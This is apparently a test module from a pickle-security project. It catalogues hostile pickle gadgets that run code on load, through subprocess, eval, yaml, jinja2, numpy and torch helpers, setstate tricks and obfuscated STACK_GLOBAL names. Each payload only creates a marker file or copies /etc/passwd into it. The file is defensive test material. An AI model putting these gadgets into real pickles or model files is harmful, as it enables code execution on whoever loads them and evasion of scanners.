"""What hostile pickles call. Each gadget leaves one file in the marker's folder, and only that.

A gadget is a function from the path of the marker to an expression of `assemble`. The oracle of
test_attacks.py proves each: the real loader makes the marker appear.
"""

from __future__ import annotations

import marshal
import os
from collections.abc import Callable
from typing import Any

from tests.attacks.assemble import (
    Appended,
    Built,
    Call,
    Name,
    New,
    Raw,
    SetItems,
    StackGlobal,
    assemble,
)
from tests.attacks.borrowed import BORROWED, torch_legacy

Gadget = Callable[[str], Any]


def _code(m: str) -> str:
    return f"open({m!r}, 'w').close()"


def _touch(m: str) -> str:
    return f"touch {m}"


def _compiled(m: str) -> bytes:
    return marshal.dumps(compile(_code(m), "model", "exec"))


getattr_ = Name("builtins", "getattr")
os_ = Name("builtins", "__import__")("os")
namespace = New(Name("types", "SimpleNamespace"), ())


def _plain_object() -> Any:
    """Something with a `__dict__`, from the standard library."""
    return New(Name("argparse", "Namespace"), ())


PROCESS: dict[str, Gadget] = {
    "os.system": lambda m: Name("os", "system")(_touch(m)),
    "posix.system": lambda m: Name("posix", "system")(_touch(m)),
    "os.popen": lambda m: Call(getattr_(Name("os", "popen")(_touch(m)), "read"), ()),
    "os.spawnlp": lambda m: Name("os", "spawnlp")(0, "touch", "touch", m),
    "os.spawnv": lambda m: Name("os", "spawnv")(0, "/usr/bin/touch", ["touch", m]),
    "os.execvp": lambda m: Name("os", "execvp")("touch", ["touch", m]),
    "posix.execv": lambda m: Name("posix", "execv")("/usr/bin/touch", ["touch", m]),
    "os.execl": lambda m: Name("os", "execl")("/usr/bin/touch", "touch", m),
    "posix.posix_spawn": lambda m: Name("posix", "posix_spawn")("/usr/bin/touch", ["touch", m], {}),
    "subprocess.run": lambda m: Name("subprocess", "run")(["touch", m]),
    "subprocess.call": lambda m: Name("subprocess", "call")(["touch", m]),
    "subprocess.check_call": lambda m: Name("subprocess", "check_call")(["touch", m]),
    "subprocess.check_output": lambda m: Name("subprocess", "check_output")(["touch", m]),
    "subprocess.Popen": lambda m: Name("subprocess", "Popen")(["touch", m]),
    "subprocess.getoutput": lambda m: Name("subprocess", "getoutput")(_touch(m)),
    "subprocess.getstatusoutput": lambda m: Name("subprocess", "getstatusoutput")(_touch(m)),
    "pty.spawn": lambda m: Name("pty", "spawn")(["touch", m]),
    "distutils.spawn": lambda m: Name("distutils.spawn", "spawn")(["touch", m]),
    "multiprocessing.util.spawnv_passfds": lambda m: Name("multiprocessing.util", "spawnv_passfds")(
        b"/usr/bin/touch", ["touch", m], []
    ),
    "imaplib.IMAP4_stream": lambda m: Name("imaplib", "IMAP4_stream")(_touch(m)),
    "pydoc.pipepager": lambda m: Name("pydoc", "pipepager")("text", f"cat > {m}"),
    "pydoc.tempfilepager": lambda m: Name("pydoc", "tempfilepager")("text", f"touch {m};:"),
    "_osx_support": lambda m: Name("_osx_support", "_read_output")(_touch(m)),
    "ctypes.util": lambda m: Name("ctypes.util", "os.system")(_touch(m)),
    "asyncio.subprocess": lambda m: Name("asyncio", "run")(
        Name("asyncio", "create_subprocess_exec")("touch", m)
    ),
    "os.fork-free posix.open": lambda m: Name("posix", "open")(m, 0o101),
    "webbrowser.GenericBrowser": lambda m: Call(
        getattr_(Name("webbrowser", "GenericBrowser")("touch"), "open"), (m,)
    ),
    "site-module distutils.util.execute": lambda m: Name("distutils.util", "execute")(
        Name("os", "mkdir"), (m,)
    ),
}

CODE: dict[str, Gadget] = {
    "eval": lambda m: Name("builtins", "eval")(_code(m)),
    "exec": lambda m: Name("builtins", "exec")(_code(m)),
    "compile-eval": lambda m: Name("builtins", "eval")(
        Name("builtins", "compile")(_code(m), "x", "exec")
    ),
    "python2 eval": lambda m: Raw(
        assemble(Name("__builtin__", "eval")(_code(m)), "protocol2")[:-1]
    ),
    "runpy._run_code": lambda m: Name("runpy", "_run_code")(
        Name("builtins", "compile")(_code(m), "x", "exec"), {}
    ),
    "code.InteractiveInterpreter": lambda m: Call(
        getattr_(Name("code", "InteractiveInterpreter")(), "runsource"), (_code(m),)
    ),
    "timeit.timeit": lambda m: Name("timeit", "timeit")(
        _code(m), "pass", Name("time", "perf_counter"), 1
    ),
    "timeit.repeat": lambda m: Name("timeit", "repeat")(
        _code(m), "pass", Name("time", "perf_counter"), 1, 1
    ),
    "timeit.main": lambda m: Name("timeit", "main")(["-n", "1", "-r", "1", _code(m)]),
    "cProfile.run": lambda m: Name("cProfile", "run")(_code(m)),
    "cProfile.runctx": lambda m: Name("cProfile", "runctx")(_code(m), {}, {}),
    "profile.run": lambda m: Name("profile", "run")(_code(m)),
    "profile.Profile.run": lambda m: Call(
        getattr_(Name("profile", "Profile")(), "run"), (_code(m),)
    ),
    "bdb.Bdb.run": lambda m: Name("trace", "Trace.run")(Name("trace", "Trace")(0, 0), _code(m)),
    "trace.Trace.runctx": lambda m: Call(
        getattr_(Name("trace", "Trace")(0, 0), "runctx"), (_code(m), {}, {})
    ),
    "pkgutil.resolve_name": lambda m: Name("pkgutil", "resolve_name")("os:mkdir")(m),
    "pydoc.locate": lambda m: Name("pydoc", "locate")("os.mkdir")(m),
    "importlib.import_module": lambda m: getattr_(
        Name("importlib", "import_module")("os"), "mkdir"
    )(m),
    "__import__": lambda m: getattr_(os_, "mkdir")(m),
    "inspect.getattr_static": lambda m: Name("inspect", "getattr_static")(os_, "mkdir")(m),
    "operator.attrgetter": lambda m: Name("operator", "attrgetter")("mkdir")(os_)(m),
    "operator.methodcaller": lambda m: Name("operator", "methodcaller")("mkdir", m)(os_),
    "types.FunctionType": lambda m: Name("types", "FunctionType")(
        Name("builtins", "compile")(_code(m), "x", "exec"), {}
    )(),
    "marshal.loads": lambda m: Name("types", "FunctionType")(
        Name("marshal", "loads")(_compiled(m)), {"__builtins__": Name("builtins", "__dict__")}
    )(),
    "map-list": lambda m: Name("builtins", "list")(
        Name("builtins", "map")(Name("builtins", "eval"), [_code(m)])
    ),
    "map-tuple": lambda m: Name("builtins", "tuple")(
        Name("builtins", "map")(Name("os", "mkdir"), [m])
    ),
    "map-set": lambda m: Name("builtins", "set")(Name("builtins", "map")(Name("os", "mkdir"), [m])),
    "filter-list": lambda m: Name("builtins", "list")(
        Name("builtins", "filter")(Name("os", "mkdir"), [m])
    ),
    "filter-any": lambda m: Name("builtins", "any")(
        Name("builtins", "filter")(Name("os", "system"), [_touch(m)])
    ),
    "starmap-deque": lambda m: Name("collections", "deque")(
        Name("itertools", "starmap")(Name("os", "mkdir"), [(m,)])
    ),
    "starmap-OrderedDict": lambda m: Name("collections", "OrderedDict")(
        Name("itertools", "starmap")(Name("os", "mkdir"), [(m,)])
    ),
    "accumulate": lambda m: Name("builtins", "list")(
        Name("itertools", "accumulate")([m, 0o755], Name("os", "mkdir"))
    ),
    "takewhile-frozenset": lambda m: Name("builtins", "frozenset")(
        Name("itertools", "takewhile")(Name("os", "mkdir"), [m])
    ),
    "reduce": lambda m: Name("functools", "reduce")(Name("os", "mkdir"), [m, 0o755]),
    "partial": lambda m: Name("functools", "partial")(Name("os", "mkdir"), m)(),
    "heapq-key": lambda m: Name("heapq", "nsmallest")(1, [m, m], Name("os", "mkdir")),
    "iter-sentinel": lambda m: Name("builtins", "next")(
        Name("builtins", "iter")(Name("functools", "partial")(Name("os", "mkdir"), m), 1)
    ),
    "zip-map": lambda m: Name("builtins", "dict")(
        Name("builtins", "zip")(["a"], Name("builtins", "map")(Name("os", "mkdir"), [m]))
    ),
    "bytes-map": lambda m: Name("builtins", "bytes")(
        Name("builtins", "map")(Name("os", "system"), [_touch(m)])
    ),
    "str.join-map": lambda m: Name("builtins", "str.join")(
        "", Name("builtins", "map")(Name("os", "mkdir"), [m])
    ),
    "operator.call": lambda m: Name("operator", "call")(Name("os", "mkdir"), m),
    "threading.Thread": lambda m: Call(
        getattr_(Name("threading", "Thread")(None, Name("os", "mkdir"), "t", (m,)), "run"), ()
    ),
    "threading.Timer": lambda m: Call(
        getattr_(Name("threading", "Timer")(0, Name("os", "mkdir"), [m]), "run"), ()
    ),
    "_thread.start_new_thread": lambda m: Name("_thread", "start_new_thread")(
        Name("os", "mkdir"), (m,)
    ),
    "atexit.register": lambda m: Name("atexit", "register")(Name("os", "mkdir"), m),
    "weakref.finalize": lambda m: Call(
        Name("weakref", "finalize")(Name("argparse", "Namespace"), Name("os", "mkdir"), m), ()
    ),
    "concurrent.futures._WorkItem": lambda m: Name("concurrent.futures.thread", "_WorkItem.run")(
        Name("concurrent.futures.thread", "_WorkItem")(
            Name("concurrent.futures", "Future")(), Name("os", "mkdir"), (m,), {}
        )
    ),
    "ThreadPoolExecutor.submit": lambda m: Call(
        getattr_(Name("concurrent.futures", "ThreadPoolExecutor")(1), "submit"),
        (Name("os", "mkdir"), m),
    ),
    "multiprocessing.Process": lambda m: Call(
        getattr_(
            Name("multiprocessing.context", "Process")(None, Name("os", "mkdir"), "p", (m,)), "run"
        ),
        (),
    ),
    "unittest.FunctionTestCase": lambda m: Name("unittest.case", "FunctionTestCase.runTest")(
        Name("unittest.case", "FunctionTestCase")(
            Name("functools", "partial")(Name("os", "mkdir"), m)
        )
    ),
    "typing.ForwardRef": lambda m: Name("typing", "ForwardRef._evaluate")(
        Name("typing", "ForwardRef")(_code(m)), {}, {}, Name("builtins", "frozenset")()
    ),
    "dataclasses._create_fn": lambda m: Name("dataclasses", "_create_fn")(
        "f", [f"a={_code(m)}"], ["pass"]
    ),
    "logging.config.dictConfig": lambda m: Name("logging.config", "dictConfig")(
        {
            "version": 1,
            "handlers": {"h": {"class": "logging.FileHandler", "filename": m}},
            "root": {"handlers": ["h"]},
        }
    ),
    "doctest.run": lambda m: Name("doctest", "DocTestRunner.run")(
        Name("doctest", "DocTestRunner")(),
        Name("doctest", "DocTestParser.get_doctest")(
            Name("doctest", "DocTestParser")(), f">>> {_code(m)}\n", {}, "x", "x", 0
        ),
    ),
    "idlelib.calltip": lambda m: Name("idlelib.calltip", "get_entity")(_code(m)),
    "functools.singledispatch": lambda m: Name("functools", "singledispatch")(Name("os", "mkdir"))(
        m
    ),
    "functools.lru_cache": lambda m: Name("functools", "lru_cache")(Name("os", "mkdir"))(m),
    "functools.cache": lambda m: Name("functools", "cache")(Name("os", "mkdir"))(m),
    "statistics.fmean": lambda m: Name("statistics", "fmean")(
        Name("builtins", "map")(Name("os", "system"), [_touch(m)])
    ),
    "copyreg-extension": lambda m: [
        Name("copyreg", "add_extension")("os", "mkdir", 240),
        Call(Raw(b"\x82\xf0"), (m,)),
    ],
    "codecs-registered": lambda m: Name("codecs", "open")(m, "w"),
    "sys.modules": lambda m: getattr_(
        Name("operator", "getitem")(Name("sys", "modules"), "os"), "mkdir"
    )(m),
    "globals": lambda m: Name("operator", "getitem")(Name("os", "__dict__"), "mkdir")(m),
    "__globals__": lambda m: getattr_(
        Name("operator", "getitem")(Name("shutil", "copyfile.__globals__"), "os"), "mkdir"
    )(m),
    "type-call": lambda m: Call(
        Call(
            Name("builtins", "type")(
                "X", (), {"__call__": Name("builtins", "staticmethod")(Name("os", "mkdir"))}
            ),
            (),
        ),
        (m,),
    ),
    "type-setstate": lambda m: Built(
        New(
            Name("builtins", "type")(
                "X", (), {"__setstate__": Name("builtins", "staticmethod")(Name("os", "mkdir"))}
            ),
            (),
        ),
        (m,),
    ),
}

DOTTED: dict[str, Gadget] = {
    f"{module}:{name}": (lambda m, module=module, name=name: Name(module, name)(m))
    for module, name in (
        ("shutil", "os.mkdir"),
        ("pathlib", "os.mkdir"),
        ("random", "_os.mkdir"),
        ("tempfile", "_os.mkdir"),
        ("logging", "os.mkdir"),
        ("glob", "os.mkdir"),
        ("inspect", "os.mkdir"),
        ("linecache", "os.mkdir"),
        ("sysconfig", "os.mkdir"),
        ("zipfile", "os.mkdir"),
        ("tarfile", "os.mkdir"),
        ("fileinput", "os.mkdir"),
        ("mimetypes", "os.mkdir"),
        ("numpy.lib._npyio_impl", "os.mkdir"),
        ("numpy.testing._private.utils", "os.mkdir"),
        ("sklearn.datasets._base", "os.mkdir"),
        ("sklearn.utils._testing", "os.mkdir"),
        ("torch.serialization", "os.mkdir"),
        ("torch.hub", "os.mkdir"),
        ("joblib.memory", "os.mkdir"),
        ("joblib.disk", "os.mkdir"),
        ("joblib.logger", "shutil.os.mkdir"),
    )
}

FILES: dict[str, Gadget] = {
    "open": lambda m: Name("builtins", "open")(m, "w"),
    "io.open": lambda m: Name("io", "open")(m, "w"),
    "_io.open": lambda m: Name("_io", "open")(m, "w"),
    "io.FileIO": lambda m: Name("io", "FileIO")(m, "w"),
    "_io.FileIO": lambda m: Name("_io", "FileIO")(m, "w"),
    "_pyio.open": lambda m: Name("_pyio", "open")(m, "w"),
    "os.open": lambda m: Name("os", "open")(m, 0o101),
    "os.mkdir": lambda m: Name("os", "mkdir")(m),
    "posix.mkdir": lambda m: Name("posix", "mkdir")(m),
    "os.makedirs": lambda m: Name("os", "makedirs")(m),
    "os.mkfifo": lambda m: Name("os", "mkfifo")(m),
    "os.mknod": lambda m: Name("os", "mknod")(m),
    "os.symlink": lambda m: Name("os", "symlink")("nowhere", m),
    "posix.symlink": lambda m: Name("posix", "symlink")("nowhere", m),
    "posix.mkfifo": lambda m: Name("posix", "mkfifo")(m),
    "shutil.copyfile": lambda m: Name("shutil", "copyfile")("/etc/passwd", m),
    "shutil.copy": lambda m: Name("shutil", "copy")("/etc/passwd", m),
    "shutil.copy2": lambda m: Name("shutil", "copy2")("/etc/passwd", m),
    "shutil._ensure_directory": lambda m: Name("shutil", "_ensure_directory")(m + "/x"),
    "zipfile.ZipFile": lambda m: Name("zipfile", "ZipFile")(m, "w"),
    "tarfile.open": lambda m: Name("tarfile", "open")(m, "w"),
    "tarfile.TarFile": lambda m: Name("tarfile", "TarFile")(m, "w"),
    "gzip.open": lambda m: Name("gzip", "open")(m, "wb"),
    "gzip.GzipFile": lambda m: Name("gzip", "GzipFile")(m, "wb"),
    "bz2.BZ2File": lambda m: Name("bz2", "BZ2File")(m, "w"),
    "lzma.LZMAFile": lambda m: Name("lzma", "LZMAFile")(m, "w"),
    "codecs.open": lambda m: Name("codecs", "open")(m, "w"),
    "logging.FileHandler": lambda m: Name("logging", "FileHandler")(m),
    "logging.handlers.RotatingFileHandler": lambda m: Name(
        "logging.handlers", "RotatingFileHandler"
    )(m),
    "mailbox.Maildir": lambda m: Name("mailbox", "Maildir")(m),
    "mailbox.mbox": lambda m: Name("mailbox", "mbox")(m),
    "mailbox.MH": lambda m: Name("mailbox", "MH")(m),
    "dbm.dumb": lambda m: Name("dbm.dumb", "open")(m, "c"),
    "shelve.open": lambda m: Name("shelve", "open")(m),
    "sqlite3.connect": lambda m: Name("sqlite3.dbapi2", "connect")(m),
    "pathlib.Path.touch": lambda m: Name("pathlib", "Path.touch")(Name("pathlib", "PosixPath")(m)),
    "pathlib.Path.mkdir": lambda m: Name("pathlib", "Path.mkdir")(Name("pathlib", "PosixPath")(m)),
    "pathlib.Path.write_text": lambda m: Name("pathlib", "Path.write_text")(
        Name("pathlib", "PosixPath")(m), "x"
    ),
    "wave.open": lambda m: Name("wave", "open")(m, "wb"),
    "aifc.open": lambda m: Name("aifc", "open")(m, "wb"),
    "sunau.open": lambda m: Name("sunau", "open")(m, "wb"),
    "uu.decode": lambda m: Name("uu", "encode")("/etc/passwd", m),
    "py_compile.compile": lambda m: Name("py_compile", "compile")(os.__file__, m),
    "venv.create": lambda m: Name("venv", "create")(m),
    "urllib.request.urlretrieve": lambda m: Name("urllib.request", "urlretrieve")(
        "file:///etc/passwd", m
    ),
    "python2 urllib": lambda m: Raw(
        assemble(Name("urllib", "urlretrieve")("file:///etc/passwd", m), "protocol2")[:-1]
    ),
    "python2 commands": lambda m: Raw(
        assemble(Name("commands", "getoutput")(_touch(m)), "protocol2")[:-1]
    ),
    "distutils.file_util.write_file": lambda m: Name("distutils.file_util", "write_file")(m, ["x"]),
    "distutils.dir_util.mkpath": lambda m: Name("distutils.dir_util", "mkpath")(m),
    "test.support.os_helper": lambda m: Name("test.support.os_helper", "create_empty_file")(m),
    "socket-unix": lambda m: Name("socket", "socket.bind")(Name("socket", "socket")(1, 1), m),
    "tempfile.mkdtemp": lambda m: Name("tempfile", "mkdtemp")("", "x", m.rsplit("/", 1)[0]),
    "tempfile._mkstemp_inner": lambda m: Name("tempfile", "_mkstemp_inner")(
        m.rsplit("/", 1)[0], "x", "y", 0o102, Name("builtins", "str")
    ),
}

LIBRARIES: dict[str, Gadget] = {
    "numpy.save": lambda m: Name("numpy", "save")(m, [1]),
    "numpy.savez": lambda m: Name("numpy", "savez")(m, [1]),
    "numpy.savetxt": lambda m: Name("numpy", "savetxt")(m, [1]),
    "numpy.memmap": lambda m: Name("numpy", "memmap")(m, "uint8", "w+", 0, (1,)),
    "numpy.memmap-new": lambda m: New(Name("numpy", "memmap"), (m, "uint8", "w+", 0, (1,))),
    "numpy.memmap-newobj-ex": lambda m: New(
        Name("numpy", "memmap"), (m,), {"mode": "w+", "shape": (1,)}
    ),
    "numpy.memmap-copyreg": lambda m: Name("copyreg", "__newobj__")(
        Name("numpy", "memmap"), m, "uint8", "w+", 0, (1,)
    ),
    "numpy.memmap-copyreg-ex": lambda m: Name("copyreg", "__newobj_ex__")(
        Name("numpy", "memmap"), (m,), {"mode": "w+", "shape": (1,)}
    ),
    "numpy.lib.format.open_memmap": lambda m: Name("numpy.lib.format", "open_memmap")(
        m, "w+", "uint8", (1,)
    ),
    "numpy.ndarray.tofile": lambda m: Name("numpy", "ndarray.tofile")(Name("numpy", "zeros")(1), m),
    "numpy.testing runstring": lambda m: Name("numpy.testing._private.utils", "runstring")(
        _code(m), {}
    ),
    "numpy.testing measure": lambda m: Name("numpy.testing._private.utils", "measure")(_code(m)),
    "numpy.f2py crackfortran": lambda m: Name("numpy.f2py.crackfortran", "myeval")(_code(m)),
    "numpy.f2py param_eval": lambda m: Name("numpy.f2py.crackfortran", "param_eval")(
        _code(m), {}, {}
    ),
    "numpy.frompyfunc": lambda m: Name("numpy", "frompyfunc")(Name("os", "mkdir"), 1, 1)(m),
    "numpy.vectorize": lambda m: Name("numpy", "vectorize")(Name("os", "mkdir"))(m),
    "numpy.fromiter": lambda m: Name("numpy", "fromiter")(
        Name("builtins", "map")(Name("os", "system"), [_touch(m)]), "i8"
    ),
    "numpy.fromfunction": lambda m: Name("numpy", "fromfunction")(
        Name("functools", "partial")(Name("os", "mkdir"), m, 0o755), ()
    ),
    "numpy.load": lambda m: Name("numpy", "load")(
        Name("io", "BytesIO")(assemble(Name("os", "mkdir")(m))), None, True
    ),
    "pickle.loads": lambda m: Name("pickle", "loads")(assemble(Name("os", "mkdir")(m))),
    "_pickle.loads": lambda m: Name("_pickle", "loads")(assemble(Name("os", "mkdir")(m))),
    "pickle._loads": lambda m: Name("pickle", "_loads")(assemble(Name("os", "mkdir")(m))),
    "pickle.Unpickler": lambda m: Call(
        getattr_(
            Name("pickle", "Unpickler")(Name("io", "BytesIO")(assemble(Name("os", "mkdir")(m)))),
            "load",
        ),
        (),
    ),
    "joblib.load": lambda m: Name("joblib", "load")(
        Name("io", "BytesIO")(assemble(Name("os", "mkdir")(m)))
    ),
    "joblib.dump": lambda m: Name("joblib", "dump")(1, m),
    "joblib.disk.mkdirp": lambda m: Name("joblib.disk", "mkdirp")(m),
    "joblib.parallel.BatchedCalls": lambda m: Call(
        Name("joblib.parallel", "BatchedCalls")(
            [(Name("os", "mkdir"), (m,), {})],
            (Name("joblib._parallel_backends", "SequentialBackend")(), 1),
        ),
        (),
    ),
    "torch.storage._load_from_bytes": lambda m: Name("torch.storage", "_load_from_bytes")(
        torch_legacy(Name("os", "mkdir")(m))
    ),
    "torch.save": lambda m: Name("torch.serialization", "save")(1, m),
    "torch.from_file": lambda m: Name("torch", "from_file")(m, True, 1),
    "torch.jit.execWrapper": lambda m: Name("torch.jit.unsupported_tensor_ops", "execWrapper")(
        _code(m), {}, {}
    ),
    "torch.utils.collect_env": lambda m: Name("torch.utils.collect_env", "run")(["touch", m]),
    "torch.storage.from_file": lambda m: Name("torch", "UntypedStorage.from_file")(m, True, 1),
    "torch.hub": lambda m: Name("torch.hub", "download_url_to_file")("file:///etc/passwd", m),
    "torch.utils.data.Mapper": lambda m: Name("builtins", "list")(
        Name("torch.utils.data.datapipes.iter", "Mapper")(
            Name("torch.utils.data.datapipes.iter", "IterableWrapper")([m]), Name("os", "mkdir")
        )
    ),
    "torch.fx._forward_from_src": lambda m: Name("torch.fx.graph_module", "_forward_from_src")(
        _code(m) + "\ndef forward(self): pass", {}
    ),
    "torch.fx.exec": lambda m: Name("torch.fx.graph_module", "_exec_with_source")(_code(m), {}),
    "torch.fx.reduce_graph_module": lambda m: Name("torch.fx.graph_module", "reduce_graph_module")(
        {"_code": _code(m) + "\ndef forward(self): pass", "_graphmodule_cls_name": "X"}, ""
    ),
    "pandas.read_pickle": lambda m: Name("pandas.io.pickle", "read_pickle")(
        Name("io", "BytesIO")(assemble(Name("os", "mkdir")(m))), None
    ),
    "pandas.to_csv": lambda m: Name("pandas", "DataFrame.to_csv")(
        Name("pandas", "DataFrame")({"a": [1]}), m
    ),
    "pandas.Series.map": lambda m: Name("pandas", "Series.map")(
        Name("pandas", "Series")([m]), Name("os", "mkdir")
    ),
    "pandas.get_handle": lambda m: Name("pandas.io.common", "get_handle")(m, "w"),
    "sklearn.dump_svmlight_file": lambda m: Name("sklearn.datasets", "dump_svmlight_file")(
        [[1.0]], [1.0], m
    ),
    "sklearn.FunctionTransformer": lambda m: Name(
        "sklearn.preprocessing", "FunctionTransformer.transform"
    )(Name("sklearn.preprocessing", "FunctionTransformer")(Name("os", "mkdir")), m),
    "sklearn.get_data_home": lambda m: Name("sklearn.datasets", "get_data_home")(m),
    "scipy.io.savemat": lambda m: Name("scipy.io", "savemat")(m, {"a": 1}),
    "scipy.sparse.save_npz": lambda m: Name("scipy.sparse", "save_npz")(
        m, Name("scipy.sparse", "csr_matrix")((1, 1))
    ),
    "scipy.MapWrapper": lambda m: Name("builtins", "list")(
        Name("scipy._lib._util", "MapWrapper")(1)(Name("os", "mkdir"), [m])
    ),
    "setuptools": lambda m: Name("setuptools._distutils.spawn", "spawn")(["touch", m]),
    "pip": lambda m: Name("pip._internal.utils.misc", "ensure_dir")(m),
    "cloudpickle": lambda m: Name("cloudpickle", "loads")(assemble(Name("os", "mkdir")(m))),
    "dill.loads": lambda m: Name("dill", "loads")(assemble(Name("os", "mkdir")(m))),
    "dill._get_attr": lambda m: Name("dill._dill", "_get_attr")(os_, "mkdir")(m),
    "hypothesis": lambda m: Name("hypothesis.configuration", "os.makedirs")(m),
    "yaml": lambda m: Name("yaml", "unsafe_load")(f"!!python/object/apply:os.mkdir [{m}]"),
    "jinja2": lambda m: Name("jinja2", "Template.render")(
        Name("jinja2", "Template")("{{ cycler.__init__.__globals__.os.mkdir(" + repr(m) + ") }}")
    ),
    # Nothing here is called: the state of harmless classes is.
    "scipy.stats state": lambda m: Built(
        New(Name("scipy.stats._continuous_distns", "norm_gen"), ()),
        ({"_parse_arg_template": _code(m)},),
    ),
    "sklearn.isotonic state": lambda m: Built(
        New(Name("sklearn.isotonic", "IsotonicRegression"), ()),
        ({"_build_f": Name("os", "mkdir"), "X_thresholds_": m, "y_thresholds_": 0o700},),
    ),
    "numpy._ufunc_reconstruct": lambda m: Call(
        Name("numpy.core", "_ufunc_reconstruct")("os", "mkdir"), (m,)
    ),
    "numpy.random constructor": lambda m: Name("numpy.random._pickle", "__generator_ctor")(
        m, Name("os", "mkdir")
    ),
}


WITHOUT_REDUCE: dict[str, Gadget] = {
    "setstate in the instance": lambda m: Built(
        _plain_object(), ({"__setstate__": Name("os", "mkdir")}, m)
    ),
    "setstate in slots": lambda m: Built(
        _plain_object(), ((None, {"__setstate__": Name("os", "mkdir")}), m)
    ),
    "setstate in an OrderedDict": lambda m: Built(
        New(Name("collections", "OrderedDict"), ()), ({"__setstate__": Name("os", "mkdir")}, m)
    ),
    "append in the instance": lambda m: Appended(
        Built(_plain_object(), ({"append": Name("os", "mkdir")},)), (m,)
    ),
    "extend in the instance": lambda m: Appended(
        Built(
            _plain_object(),
            ({"extend": Name("functools", "partial")(Name("subprocess", "call"))},),
        ),
        ("touch", m),
        b"e",
    ),
    "add in the instance": lambda m: Appended(
        Built(_plain_object(), ({"add": Name("os", "mkdir")},)), (m,), b"\x90"
    ),
    "setitem of a class made here": lambda m: SetItems(
        New(
            Name("builtins", "type")(
                "X",
                (Name("builtins", "dict"),),
                {"__setitem__": Name("builtins", "staticmethod")(Name("os", "mkdir"))},
            ),
            (),
        ),
        ((m, 0o755),),
    ),
    "default_factory": lambda m: Name("operator", "getitem")(
        Name("collections", "defaultdict")(Name("functools", "partial")(Name("os", "mkdir"), m)),
        "missing",
    ),
    "INST of a class with a hostile constructor": lambda m: Raw(
        assemble(Name("logging", "FileHandler")(m), "inst")[:-1]
    ),
    "OBJ of a function": lambda m: Raw(assemble(Name("os", "mkdir")(m), "obj")[2:-1]),
    "INST of a function": lambda m: Raw(assemble(Name("os", "mkdir")(m), "inst")[:-1]),
    "STACK_GLOBAL of computed text": lambda m: Call(
        StackGlobal(
            Name("_codecs", "decode")(b"os", "ascii"), Name("_codecs", "decode")(b"mkdir", "ascii")
        ),
        (m,),
    ),
    "STACK_GLOBAL of reversed text": lambda m: Call(
        StackGlobal(
            Name("operator", "getitem")("so", Name("builtins", "slice")(None, None, -1)),
            "mkdir",
        ),
        (m,),
    ),
    "STACK_GLOBAL of rot13": lambda m: Call(
        StackGlobal("os", Name("codecs", "decode")("zxqve", "rot13")), (m,)
    ),
    "STACK_GLOBAL of joined text": lambda m: Call(
        StackGlobal("os", Name("builtins", "str.join")("k", ["m", "dir"])), (m,)
    ),
    "hash of a key": lambda m: Raw(
        b"}"
        + assemble(
            Name("builtins", "eval")(f"type('K', (), {{'__hash__': lambda s: {_code(m)} or 1}})()")
        )[2:-1]
        + b"K\x01s"
    ),
    "iterated by EXTEND": lambda m: Appended(
        Name("collections", "deque")(), (Name("os", "mkdir")(m),), b"e"
    ),
    "class attribute": lambda m: [
        Built(
            Name("argparse", "Namespace"),
            ((None, {"__setstate__": Name("builtins", "staticmethod")(Name("os", "mkdir"))}),),
        ),
        Built(New(Name("argparse", "Namespace"), ()), (m,)),
    ],
    "module attribute": lambda m: [
        Built(
            Name("builtins", "__import__")("string"),
            ((None, {"capwords": Name("os", "mkdir")}),),
        ),
        Name("string", "capwords")(m),
    ],
    "patched by BUILD": lambda m: [
        Built(Name("string", "Template"), ((None, {"substitute": Name("os", "mkdir")}),)),
        Name("string", "Template.substitute")(m),
    ],
}

GADGETS: dict[str, Gadget] = {
    f"{family}: {name}": gadget
    for family, gadgets in (
        ("process", PROCESS),
        ("code", CODE),
        ("dotted", DOTTED),
        ("files", FILES),
        ("libraries", LIBRARIES),
        ("no REDUCE", WITHOUT_REDUCE),
        ("borrowed", BORROWED),
    )
    for name, gadget in gadgets.items()
}
